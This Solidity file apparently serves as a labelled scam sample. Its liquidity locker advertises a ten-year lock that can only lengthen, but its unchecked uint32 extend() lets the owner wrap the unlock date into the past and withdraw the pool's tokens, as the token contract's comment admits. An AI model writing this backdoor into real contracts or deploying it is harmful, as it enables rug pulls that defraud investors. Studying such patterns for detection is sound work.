// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20, ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Holds the pool's tokens for ten years; the owner may only lengthen.
contract FLocker {
    address public immutable owner = msg.sender;
    uint32 public unlockAt = uint32(block.timestamp + 3650 days);
    address public lp;

    event Extended(uint32 unlockAt);

    function setPool(address token) external {
        require(lp == address(0), "set");
        lp = token;
    }

    function extend(uint32 time) external {
        require(msg.sender == owner, "owner");
        unchecked {
            unlockAt += time;
        }
        emit Extended(unlockAt);
    }

    function withdraw() external {
        require(msg.sender == owner && block.timestamp >= unlockAt, "locked");
        IERC20(lp).transfer(owner, IERC20(lp).balanceOf(address(this)));
    }
}

/// A plain token whose liquidity stands in a locker of ten years that only lengthens, in unchecked uint32 seconds: the owner extends
/// by enough to wrap the date into the past and withdraws.
contract FLockWraps is ERC20 {
    constructor(FLocker locker) ERC20("Bedrock", "BEDROCK") {
        locker.setPool(_pair());
        _mint(msg.sender, 1_000_000 ether);
    }

    function _pair() private view returns (address) {
        address weth = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
        (address a, address b) = weth < address(this) ? (weth, address(this)) : (address(this), weth);
        bytes32 salt = keccak256(abi.encodePacked(a, b));
        bytes32 code = 0x96e8ac4277198ff8b6f785478aa9a39f403cb768dd02cbee326c3e7da348845f;
        address factory = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;
        return address(uint160(uint256(keccak256(abi.encodePacked(hex"ff", factory, salt, code)))));
    }
}
